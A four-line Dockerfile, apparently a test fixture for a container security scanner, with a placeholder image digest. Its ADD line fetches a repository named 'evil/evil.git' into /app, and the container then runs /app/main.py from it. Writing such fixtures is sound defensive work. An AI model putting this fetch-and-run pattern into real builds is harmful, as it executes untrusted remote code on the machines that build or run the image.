FROM cyberprivacy/python@sha256:5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a5a
ADD git@github.com:evil/evil.git /app
USER 10001
CMD ["python3", "/app/main.py"]
